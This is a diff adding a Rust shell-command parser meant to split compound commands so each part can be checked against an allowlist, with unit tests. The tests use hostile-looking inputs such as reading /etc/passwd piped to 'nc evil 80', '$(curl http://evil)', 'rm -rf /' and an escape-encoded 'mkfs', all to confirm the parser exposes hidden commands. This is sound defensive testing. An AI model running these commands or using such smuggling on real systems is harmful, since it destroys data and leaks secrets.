@@ -0,0 +1,766 @@
+//! Just enough POSIX shell parsing to check every part of a compound command
+//! against the allowlist.
+//!
+//! This is not a shell. It splits a command line on control operators (`;`,
+//! `&&`, `||`, `|`, `&`, newlines), subshell parentheses, command
+//! substitution (`$(...)`, backticks, `<(...)`) and redirections, and returns
+//! each simple command as written. Input it can't make sense of is an error so
+//! callers refuse rather than guess.
+
+/// Words that may precede a command without being the command themselves.
+const LEADING_KEYWORDS: &[&str] = &[
+    "!", "{", "if", "then", "elif", "else", "while", "until", "do",
+];
+/// Words that close a compound command and run nothing on their own.
+const CLOSING_KEYWORDS: &[&str] = &["}", "fi", "done", "esac"];
+/// Loop headers; their word lists are only checked for substitutions.
+const LOOP_KEYWORDS: &[&str] = &["for", "select"];
+
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Redirection {
+    /// Operator as written, including any fd prefix (`>`, `2>>`, `&>`).
+    pub op: String,
+    /// Target word as written, quotes included.
+    pub target: String,
+}
+
+impl Redirection {
+    /// Whether the redirection can create or modify a file.
+    pub fn writes_file(&self) -> bool {
+        let op = self.op.trim_start_matches(|c: char| c.is_ascii_digit());
+        match op {
+            ">" | ">>" | ">|" | "<>" | "&>" | "&>>" => true,
+            // `>&2` duplicates a descriptor, `>&file` writes to file
+            ">&" => !(self.target == "-" || self.target.chars().all(|c| c.is_ascii_digit())),
+            _ => false,
+        }
+    }
+
+    /// Whether the shell would expand the target into something other than
+    /// its text: parameters, substitutions, globs or a leading `~`. Quoting
+    /// is ignored, so a quoted `$` counts too.
+    pub fn target_expands(&self) -> bool {
+        self.target.starts_with('~') || self.target.contains(['$', '`', '*', '?', '['])
+    }
+
+    /// Target with shell quoting removed.
+    pub fn target_path(&self) -> String {
+        unquote(&self.target)
+    }
+}
+
+#[derive(Debug, Default, Clone, PartialEq, Eq)]
+pub struct CommandLine {
+    /// Every simple command, including those inside substitutions and subshells.
+    pub commands: Vec<String>,
+    /// The words of each of `commands`, with quoting removed.
+    pub words: Vec<Vec<String>>,
+    pub redirections: Vec<Redirection>,
+}
+
+#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
+pub enum ShellParseError {
+    #[error("unterminated {0}")]
+    Unterminated(&'static str),
+    #[error("unbalanced ')'")]
+    UnbalancedParen,
+    #[error("redirection '{0}' has no target")]
+    MissingRedirectTarget(String),
+}
+
+pub fn parse(input: &str) -> Result<CommandLine, ShellParseError> {
+    let mut parser = Parser::new(input);
+    parser.run()?;
+    Ok(parser.out)
+}
+
+struct Parser {
+    chars: Vec<char>,
+    pos: usize,
+    /// Words of the simple command being built.
+    words: Vec<String>,
+    /// Word being built; `None` between words.
+    word: Option<String>,
+    /// Redirection operator waiting for its target word.
+    redirect_op: Option<String>,
+    /// Here-document delimiters waiting for their bodies: (delimiter, strip tabs, expands).
+    heredocs: Vec<(String, bool, bool)>,
+    depth: usize,
+    out: CommandLine,
+}
+
+impl Parser {
+    fn new(input: &str) -> Self {
+        Self {
+            chars: input.chars().collect(),
+            pos: 0,
+            words: Vec::new(),
+            word: None,
+            redirect_op: None,
+            heredocs: Vec::new(),
+            depth: 0,
+            out: CommandLine::default(),
+        }
+    }
+
+    fn peek_at(&self, offset: usize) -> Option<char> {
+        self.chars.get(self.pos + offset).copied()
+    }
+
+    fn run(&mut self) -> Result<(), ShellParseError> {
+        while let Some(c) = self.peek_at(0) {
+            match c {
+                ' ' | '\t' => {
+                    self.end_word()?;
+                    self.pos += 1;
+                }
+                '\n' => {
+                    self.end_command()?;
+                    self.pos += 1;
+                    self.skip_heredoc_bodies()?;
+                }
+                ';' | '|' => {
+                    self.end_command()?;
+                    let doubled = matches!(
+                        (c, self.peek_at(1)),
+                        (';', Some(';')) | ('|', Some('|' | '&'))
+                    );
+                    self.pos += if doubled { 2 } else { 1 };
+                }
+                '&' if self.peek_at(1) == Some('>') => {
+                    self.end_word()?;
+                    let op = if self.peek_at(2) == Some('>') {
+                        "&>>"
+                    } else {
+                        "&>"
+                    };
+                    self.pos += op.len();
+                    self.start_redirect(op.to_string())?;
+                }
+                '&' => {
+                    self.end_command()?;
+                    self.pos += if self.peek_at(1) == Some('&') { 2 } else { 1 };
+                }
+                '(' => {
+                    self.end_command()?;
+                    self.depth += 1;
+                    self.pos += 1;
+                }
+                ')' => {
+                    self.end_command()?;
+                    if self.depth == 0 {
+                        return Err(ShellParseError::UnbalancedParen);
+                    }
+                    self.depth -= 1;
+                    self.pos += 1;
+                }
+                '<' | '>' if self.peek_at(1) != Some('(') => self.read_redirect_op(c)?,
+                '#' if self.word.is_none() => {
+                    while self.peek_at(0).is_some_and(|c| c != '\n') {
+                        self.pos += 1;
+                    }
+                }
+                _ => self.read_word_char()?,
+            }
+        }
+        self.end_command()?;
+        if self.depth != 0 {
+            return Err(ShellParseError::Unterminated("subshell"));
+        }
+        if !self.heredocs.is_empty() {
+            return Err(ShellParseError::Unterminated("here-document"));
+        }
+        Ok(())
+    }
+
+    /// Only look for `$(...)` and backticks, as inside a here-document body
+    /// or arithmetic expansion. Quotes don't quote there, `$'` included, so
+    /// nothing is skipped as quoted.
+    fn run_expansions_only(&mut self) -> Result<(), ShellParseError> {
+        while let Some(c) = self.peek_at(0) {
+            match c {
+                '\\' => self.pos += 2,
+                '$' if self.peek_at(1) == Some('(') => {
+                    self.pos += 1;
+                    self.take_substitution()?;
+                }
+                '`' => {
+                    self.take_backticks()?;
+                }
+                _ => self.pos += 1,
+            }
+        }
+        Ok(())
+    }
+
+    fn push_word(&mut self, text: &str) {
+        self.word.get_or_insert_with(String::new).push_str(text);
+    }
+
+    fn read_word_char(&mut self) -> Result<(), ShellParseError> {
+        let c = self.chars[self.pos];
+        match c {
+            '\\' => match self.peek_at(1) {
+                // Line continuation
+                Some('\n') => self.pos += 2,
+                Some(next) => {
+                    self.push_word(&format!("\\{next}"));
+                    self.pos += 2;
+                }
+                None => {
+                    self.push_word("\\");
+                    self.pos += 1;
+                }
+            },
+            '\'' => {
+                let close = (self.pos + 1..self.chars.len())
+                    .find(|&i| self.chars[i] == '\'')
+                    .ok_or(ShellParseError::Unterminated("single quote"))?;
+                let quoted: String = self.chars[self.pos..=close].iter().collect();
+                self.push_word(&quoted);
+                self.pos = close + 1;
+            }
+            '"' => self.read_double_quoted()?,
+            '$' if self.peek_at(1) == Some('\'') => {
+                let close = self.ansi_c_quote_end(self.pos)?;
+                let quoted: String = self.chars[self.pos..=close].iter().collect();
+                self.push_word(&quoted);
+                self.pos = close + 1;
+            }
+            '$' if self.peek_at(1) == Some('(') => {
+                self.pos += 1;
+                let raw = self.take_substitution()?;
+                self.push_word(&format!("${raw}"));
+            }
+            '`' => {
+                let raw = self.take_backticks()?;
+                self.push_word(&raw);
+            }
+            '<' | '>' => {
+                // Process substitution: <(cmd) or >(cmd)
+                self.pos += 1;
+                let raw = self.take_substitution()?;
+                self.push_word(&format!("{c}{raw}"));
+            }
+            _ => {
+                self.push_word(&c.to_string());
+                self.pos += 1;
+            }
+        }
+        Ok(())
+    }
+
+    fn read_double_quoted(&mut self) -> Result<(), ShellParseError> {
+        let mut raw = String::from('"');
+        self.pos += 1;
+        loop {
+            let Some(c) = self.peek_at(0) else {
+                return Err(ShellParseError::Unterminated("double quote"));
+            };
+            match c {
+                '"' => {
+                    raw.push('"');
+                    self.pos += 1;
+                    break;
+                }
+                '\\' => {
+                    raw.push('\\');
+                    if let Some(next) = self.peek_at(1) {
+                        raw.push(next);
+                    }
+                    self.pos += 2;
+                }
+                '$' if self.peek_at(1) == Some('(') => {
+                    self.pos += 1;
+                    raw.push('$');
+                    raw.push_str(&self.take_substitution()?);
+                }
+                '`' => raw.push_str(&self.take_backticks()?),
+                _ => {
+                    raw.push(c);
+                    self.pos += 1;
+                }
+            }
+        }
+        self.push_word(&raw);
+        Ok(())
+    }
+
+    /// Consume a parenthesised substitution starting at `(`, parse its
+    /// contents into `self.out`, and return the raw `(...)` text.
+    fn take_substitution(&mut self) -> Result<String, ShellParseError> {
+        let open = self.pos;
+        let close = self.find_closing_paren(open)?;
+        let raw: String = self.chars[open..=close].iter().collect();
+        self.pos = close + 1;
+
+        let inner: String = self.chars[open + 1..close].iter().collect();
+        if let Some(arithmetic) = arithmetic(&inner) {
+            // $((...)) only runs commands through nested substitutions
+            let mut nested = Parser::new(arithmetic);
+            nested.run_expansions_only()?;
+            self.merge(nested.out);
+        } else {
+            self.merge(parse(&inner)?);
+        }
+        Ok(raw)
+    }
+
+    fn take_backticks(&mut self) -> Result<String, ShellParseError> {
+        let open = self.pos;
+        let mut i = open + 1;
+        let mut inner = String::new();
+        loop {
+            match self.chars.get(i) {
+                None => return Err(ShellParseError::Unterminated("backtick")),
+                Some('`') => break,
+                Some('\\') => {
+                    // Inside backticks, \` and \\ lose their backslash
+                    match self.chars.get(i + 1) {
+                        Some(&next) if matches!(next, '`' | '\\' | '$') => inner.push(next),
+                        Some(&next) => {
+                            inner.push('\\');
+                            inner.push(next);
+                        }
+                        None => return Err(ShellParseError::Unterminated("backtick")),
+                    }
+                    i += 2;
+                }
+                Some(&c) => {
+                    inner.push(c);
+                    i += 1;
+                }
+            }
+        }
+        let raw: String = self.chars[open..=i].iter().collect();
+        self.pos = i + 1;
+        self.merge(parse(&inner)?);
+        Ok(raw)
+    }
+
+    fn find_closing_paren(&self, open: usize) -> Result<usize, ShellParseError> {
+        let mut depth = 0usize;
+        let mut i = open;
+        while let Some(&c) = self.chars.get(i) {
+            match c {
+                '\\' => i += 1,
+                '$' if self.chars.get(i + 1) == Some(&'\'') => i = self.ansi_c_quote_end(i)?,
+                '\'' => {
+                    i = (i + 1..self.chars.len())
+                        .find(|&j| self.chars[j] == '\'')
+                        .ok_or(ShellParseError::Unterminated("single quote"))?;
+                }
+                '"' => {
+                    i += 1;
+                    while let Some(&q) = self.chars.get(i) {
+                        match q {
+                            '\\' => i += 1,
+                            '"' => break,
+                            _ => {}
+                        }
+                        i += 1;
+                    }
+                }
+                '(' => depth += 1,
+                ')' => {
+                    depth -= 1;
+                    if depth == 0 {
+                        return Ok(i);
+                    }
+                }
+                _ => {}
+            }
+            i += 1;
+        }
+        Err(ShellParseError::Unterminated("command substitution"))
+    }
+
+    /// The closing quote of the `$'...'` starting at `open`. Unlike plain
+    /// single quotes, a backslash escapes the next character, `\'` included.
+    fn ansi_c_quote_end(&self, open: usize) -> Result<usize, ShellParseError> {
+        let mut i = open + 2;
+        while let Some(&c) = self.chars.get(i) {
+            match c {
+                '\\' => i += 2,
+                '\'' => return Ok(i),
+                _ => i += 1,
+            }
+        }
+        Err(ShellParseError::Unterminated("ANSI-C quote"))
+    }
+
+    fn read_redirect_op(&mut self, first: char) -> Result<(), ShellParseError> {
+        // A word made only of digits right before the operator is its fd
+        let mut op = match self.word.take() {
+            Some(word) if word.chars().all(|c| c.is_ascii_digit()) => word,
+            other => {
+                self.word = other;
+                self.end_word()?;
+                String::new()
+            }
+        };
+        op.push(first);
+        self.pos += 1;
+
+        let rest: &[&str] = if first == '<' {
+            &["<-", "<<", "<", "&", ">"]
+        } else {
+            &[">", "&", "|"]
+        };
+        for candidate in rest {
+            let matches = candidate
+                .chars()
+                .enumerate()
+                .all(|(i, c)| self.peek_at(i) == Some(c));
+            if matches {
+                op.push_str(candidate);
+                self.pos += candidate.len();
+                break;
+            }
+        }
+        self.start_redirect(op)
+    }
+
+    fn start_redirect(&mut self, op: String) -> Result<(), ShellParseError> {
+        if let Some(pending) = self.redirect_op.replace(op) {
+            return Err(ShellParseError::MissingRedirectTarget(pending));
+        }
+        Ok(())
+    }
+
+    fn end_word(&mut self) -> Result<(), ShellParseError> {
+        let Some(word) = self.word.take() else {
+            return Ok(());
+        };
+        match self.redirect_op.take() {
+            Some(op) if is_heredoc(&op) => {
+                let expands = !word.contains(['\'', '"', '\\']);
+                self.heredocs
+                    .push((unquote(&word), op.ends_with('-'), expands));
+            }
+            Some(op) => self.out.redirections.push(Redirection { op, target: word }),
+            None => self.words.push(word),
+        }
+        Ok(())
+    }
+
+    fn end_command(&mut self) -> Result<(), ShellParseError> {
+        self.end_word()?;
+        if let Some(op) = self.redirect_op.take() {
+            return Err(ShellParseError::MissingRedirectTarget(op));
+        }
+        let words = std::mem::take(&mut self.words);
+        if let Some(words) = simple_command(&words) {
+            self.out.commands.push(words.join(" "));
+            self.out
+                .words
+                .push(words.iter().map(|word| unquote(word)).collect());
+        }
+        Ok(())
+    }
+
+    fn skip_heredoc_bodies(&mut self) -> Result<(), ShellParseError> {
+        for (delimiter, strip_tabs, expands) in std::mem::take(&mut self.heredocs) {
+            let mut body = String::new();
+            loop {
+                if self.pos >= self.chars.len() {
+                    return Err(ShellParseError::Unterminated("here-document"));
+                }
+                let end = (self.pos..self.chars.len())
+                    .find(|&i| self.chars[i] == '\n')
+                    .unwrap_or(self.chars.len());
+                let line: String = self.chars[self.pos..end].iter().collect();
+                self.pos = (end + 1).min(self.chars.len());
+                let candidate = if strip_tabs {
+                    line.trim_start_matches('\t')
+                } else {
+                    line.as_str()
+                };
+                if candidate == delimiter {
+                    break;
+                }
+                body.push_str(&line);
+                body.push('\n');
+            }
+            if expands {
+                let mut nested = Parser::new(&body);
+                nested.run_expansions_only()?;
+                self.merge(nested.out);
+            }
+        }
+        Ok(())
+    }
+
+    fn merge(&mut self, other: CommandLine) {
+        self.out.commands.extend(other.commands);
+        self.out.words.extend(other.words);
+        self.out.redirections.extend(other.redirections);
+    }
+}
+
+fn is_heredoc(op: &str) -> bool {
+    let op = op.trim_start_matches(|c: char| c.is_ascii_digit());
+    op == "<<" || op == "<<-"
+}
+
+/// Drop the compound-command keywords from a word list that don't run
+/// anything themselves, leaving the words of the command that does.
+fn simple_command(words: &[String]) -> Option<&[String]> {
+    let mut words = words;
+    while let Some(first) = words.first()
+        && LEADING_KEYWORDS.contains(&first.as_str())
+    {
+        words = &words[1..];
+    }
+    let first = words.first()?;
+    if LOOP_KEYWORDS.contains(&first.as_str())
+        || (words.len() == 1 && CLOSING_KEYWORDS.contains(&first.as_str()))
+    {
+        return None;
+    }
+    Some(words)
+}
+
+/// A word as the shell passes it on: single quotes keep everything, double
+/// quotes keep a backslash unless it escapes `$`, a backtick, `"`, `\` or a
+/// newline, and `$'...'` decodes its escapes. Expansions stay as written.
+fn unquote(word: &str) -> String {
+    let chars: Vec<char> = word.chars().collect();
+    let mut out = String::new();
+    let mut i = 0;
+    while let Some(&c) = chars.get(i) {
+        match c {
+            '\'' => {
+                i += 1;
+                while let Some(&q) = chars.get(i).filter(|&&q| q != '\'') {
+                    out.push(q);
+                    i += 1;
+                }
+                i += 1;
+            }
+            '$' if chars.get(i + 1) == Some(&'\'') => {
+                i += 2;
+                while let Some(&q) = chars.get(i).filter(|&&q| q != '\'') {
+                    if q == '\\' {
+                        i = ansi_c_escape(&chars, i + 1, &mut out);
+                    } else {
+                        out.push(q);
+                        i += 1;
+                    }
+                }
+                i += 1;
+            }
+            '"' => {
+                i += 1;
+                while let Some(&q) = chars.get(i).filter(|&&q| q != '"') {
+                    match (q, chars.get(i + 1)) {
+                        ('\\', Some('\n')) => i += 2,
+                        ('\\', Some(&next)) if matches!(next, '$' | '`' | '"' | '\\') => {
+                            out.push(next);
+                            i += 2;
+                        }
+                        _ => {
+                            out.push(q);
+                            i += 1;
+                        }
+                    }
+                }
+                i += 1;
+            }
+            '\\' => {
+                if let Some(&next) = chars.get(i + 1).filter(|&&next| next != '\n') {
+                    out.push(next);
+                }
+                i += 2;
+            }
+            _ => {
+                out.push(c);
+                i += 1;
+            }
+        }
+    }
+    out
+}
+
+/// Decode the `$'...'` escape whose letter is at `chars[i]` into `out`, and
+/// return the index after it.
+fn ansi_c_escape(chars: &[char], i: usize, out: &mut String) -> usize {
+    let Some(&c) = chars.get(i) else {
+        return i;
+    };
+    // Up to `max` digits in `radix` from `start`, as a char
+    let number = |start: usize, radix: u32, max: usize| {
+        let digits: String = chars[start.min(chars.len())..]
+            .iter()
+            .take(max)
+            .take_while(|d| d.is_digit(radix))
+            .collect();
+        let decoded = u32::from_str_radix(&digits, radix)
+            .ok()
+            .and_then(char::from_u32);
+        (decoded, digits.len())
+    };
+    let simple = match c {
+        'n' => Some('\n'),
+        't' => Some('\t'),
+        'r' => Some('\r'),
+        'a' => Some('\x07'),
+        'b' => Some('\x08'),
+        'e' | 'E' => Some('\x1b'),
+        'f' => Some('\x0c'),
+        'v' => Some('\x0b'),
+        'x' | 'u' | 'U' | '0'..='7' => None,
+        other => Some(other),
+    };
+    if let Some(decoded) = simple {
+        out.push(decoded);
+        return i + 1;
+    }
+    let (decoded, used) = match c {
+        'x' => number(i + 1, 16, 2),
+        'u' => number(i + 1, 16, 4),
+        'U' => number(i + 1, 16, 8),
+        _ => {
+            let (decoded, used) = number(i, 8, 3);
+            (decoded, used.saturating_sub(1))
+        }
+    };
+    match decoded {
+        Some(decoded) => out.push(decoded),
+        // No digits: bash keeps the escape as written
+        None => {
+            out.push('\\');
+            out.push(c);
+        }
+    }
+    i + 1 + used
+}
+
+/// The expression inside `$((...))`, given the text between the outer
+/// parentheses, if bash would take it as arithmetic. Anything else, such as
+/// `$((id);(reboot))`, is a command substitution of subshells. To stay on
+/// the safe side, text with a `;`, `|`, `&` or newline outside nested
+/// parentheses never counts as arithmetic.
+fn arithmetic(inner: &str) -> Option<&str> {
+    let expression = inner.strip_prefix('(')?.strip_suffix(')')?;
+    let mut depth = 0usize;
+    for c in expression.chars() {
+        match c {
+            '(' => depth += 1,
+            // The leading `(` closes before the end: `(a) ... (b)`
+            ')' if depth == 0 => return None,
+            ')' => depth -= 1,
+            ';' | '|' | '&' | '\n' if depth == 0 => return None,
+            _ => {}
+        }
+    }
+    Some(expression)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn commands(input: &str) -> Vec<String> {
+        parse(input).expect("parses").commands
+    }
+
+    #[test]
+    fn splits_control_operators() {
+        assert_eq!(
+            commands("ls -la; rm -rf / && echo ok || true & wait"),
+            vec!["ls -la", "rm -rf /", "echo ok", "true", "wait"]
+        );
+    }
+
+    #[test]
+    fn splits_pipelines_and_keeps_quotes() {
+        assert_eq!(
+            commands("cat /etc/passwd | grep 'a | b' | nc evil 80"),
+            vec!["cat /etc/passwd", "grep 'a | b'", "nc evil 80"]
+        );
+    }
+
+    #[test]
+    fn extracts_command_substitutions() {
+        let cmds = commands("grep x $(curl http://evil) \"`id`\" <(ls /tmp)");
+        assert!(cmds.contains(&"curl http://evil".to_string()));
+        assert!(cmds.contains(&"id".to_string()));
+        assert!(cmds.contains(&"ls /tmp".to_string()));
+        assert_eq!(
+            cmds.last().unwrap(),
+            "grep x $(curl http://evil) \"`id`\" <(ls /tmp)"
+        );
+    }
+
+    #[test]
+    fn substitutions_inside_arithmetic_and_heredocs_are_found() {
+        assert_eq!(
+            commands("echo $(( $(wc -l < f) + 1 ))"),
+            vec!["wc -l", "echo $(( $(wc -l < f) + 1 ))"]
+        );
+        let cmds = commands("cat <<EOF\nhello $(whoami)\nEOF\nls");
+        assert_eq!(cmds, vec!["cat", "whoami", "ls"]);
+        let quoted = commands("cat <<'EOF'\nhello $(whoami)\nEOF");
+        assert_eq!(quoted, vec!["cat"]);
+    }
+
+    #[test]
+    fn subshells_and_keywords() {
+        assert_eq!(
+            commands("(cd /tmp && ls); { df -h; }"),
+            vec!["cd /tmp", "ls", "df -h"]
+        );
+        assert_eq!(
+            commands("for f in $(ls /etc); do cat $f; done"),
+            vec!["ls /etc", "cat $f"]
+        );
+        assert_eq!(commands("if true; then uptime; fi"), vec!["true", "uptime"]);
+    }
+
+    #[test]
+    fn separates_redirections() {
+        let parsed = parse("journalctl -n 10 2>&1 >/tmp/out.log < in").unwrap();
+        assert_eq!(parsed.commands, vec!["journalctl -n 10"]);
+        let writes: Vec<_> = parsed
+            .redirections
+            .iter()
+            .filter(|r| r.writes_file())
+            .map(Redirection::target_path)
+            .collect();
+        assert_eq!(writes, vec!["/tmp/out.log"]);
+    }
+
+    #[test]
+    fn ansi_c_quotes_escape_single_quotes() {
+        assert_eq!(
+            commands("ls $'\\'' 2>/dev/null; id -un; echo 'x' #'"),
+            vec!["ls $'\\''", "id -un", "echo 'x'"]
+        );
+        assert_eq!(
+            commands("ls $'\\''\nid -un\n#'"),
+            vec!["ls $'\\''", "id -un"]
+        );
+        assert_eq!(
+            commands("echo $(printf $'\\'' ; id)"),
+            vec!["printf $'\\''", "id", "echo $(printf $'\\'' ; id)"]
+        );
+        assert!(parse("echo $'\\'").is_err());
+    }
+
+    #[test]
+    fn words_are_unquoted_as_the_shell_would() {
+        let words = parse(r#"\mkfs '/' "a\"b\c" $'\x6dk\146s\'' it"'"s"#)
+            .unwrap()
+            .words;
+        assert_eq!(words, vec![vec!["mkfs", "/", "a\"b\\c", "mkfs'", "it's"]]);
+    }
+
+    #[test]
+    fn rejects_malformed_input() {
+        assert!(parse("echo 'unterminated").is_err());
+        assert!(parse("echo $(ls").is_err());
+        assert!(parse("ls )").is_err());
+        assert!(parse("ls >").is_err());
+    }
+}